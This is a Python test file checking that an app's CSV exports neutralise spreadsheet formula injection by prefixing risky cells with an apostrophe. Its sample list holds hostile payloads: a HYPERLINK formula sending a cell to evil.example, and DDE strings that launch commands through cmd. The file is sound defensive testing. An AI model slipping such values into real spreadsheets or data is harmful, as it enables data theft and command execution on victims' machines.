"""Exports are safe to open: a cell a spreadsheet would run as a formula (it begins with =, +, -, @, a tab or a
carriage return) is written with a `'` before it, in every CSV amplify writes, and the tables on the pages offer
no CSV download of their own that would skip that."""

import csv
import io
import json

import pytest
from audit_fixtures import add_item, add_source
from click.testing import CliRunner
from pages import open_page, use_files
from streamlit import config as streamlit_config

from amplify.cli import cli
from amplify.export import csv_cell, csv_text
from amplify.store import Store
from amplify.ui.pages import audit as audit_page

# What a hostile feed or a careless paste can put in a title, a name, a post or a URL.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_db(tmp_path):
    path = tmp_path / "amplify.db"
    with Store(path) as store:
        for number, formula in enumerate(FORMULAS, start=1):
            source = add_source(store, formula)
            moment = f"2026-11-{number:02d}T10:00:00+00:00"
            item = add_item(store, source, moment, title=formula)
            with store.transaction():
                draft = store.execute("INSERT INTO drafts (item_id, state, created_at, updated_at)"
                                      " VALUES (?, 'shared', ?, ?)", (item, moment, moment)).lastrowid
                store._append_share(draft_id=draft, item_id=item, source_id=source, network="mastodon",
                                    text=formula, post_url=None, shared_at=moment, checklist="{}")
    return path


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_every_formula_is_defused(rows: list[dict[str, str]]) -> None:
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in ("source", "item_title", "text"):
            assert row[column] == "'" + formula, (column, row[column])
        assert not row["share_id"].startswith("'")  # numbers stay numbers


def test_the_share_export_command_defuses_every_formula_cell(hostile_db):
    result = CliRunner().invoke(cli, ["export", "shares", "--format", "csv", "--db", str(hostile_db)])
    assert result.exit_code == 0, result.output
    assert_every_formula_is_defused(rows_of(result.output))


def test_the_audit_page_export_download_defuses_every_formula_cell(hostile_db, tmp_path, monkeypatch):
    use_files(monkeypatch, hostile_db, tmp_path / "feeds.yml")
    assert_every_formula_is_defused(rows_of(audit_page._export("csv")))


def test_json_keeps_the_words_as_they_are(hostile_db):
    result = CliRunner().invoke(cli, ["export", "shares", "--format", "json", "--db", str(hostile_db)])
    assert [record["text"] for record in json.loads(result.output)] == FORMULAS


@pytest.mark.parametrize("value", [*FORMULAS, "=", "-", "@handle"])
def test_the_one_csv_helper_prefixes_what_a_spreadsheet_would_run(value):
    assert csv_cell(value) == "'" + value
    assert rows_of(csv_text(["cell"], [[value]]))[0]["cell"] == "'" + value


@pytest.mark.parametrize("value", ["Ada Bakes", "a=b", " =1", "'quoted", "", 42, -3, None])
def test_the_one_csv_helper_leaves_everything_else(value):
    assert csv_cell(value) == value


def test_the_pages_tables_offer_no_csv_download_that_skips_the_helper(tmp_path, monkeypatch):
    """Streamlit's own table download writes cells as they are: the app turns it off."""
    path = tmp_path / "amplify.db"
    Store(path).close()
    use_files(monkeypatch, path, tmp_path / "feeds.yml")
    streamlit_config.set_option("client.disableDataExport", False)
    open_page("audit")
    assert streamlit_config.get_option("client.disableDataExport") is True
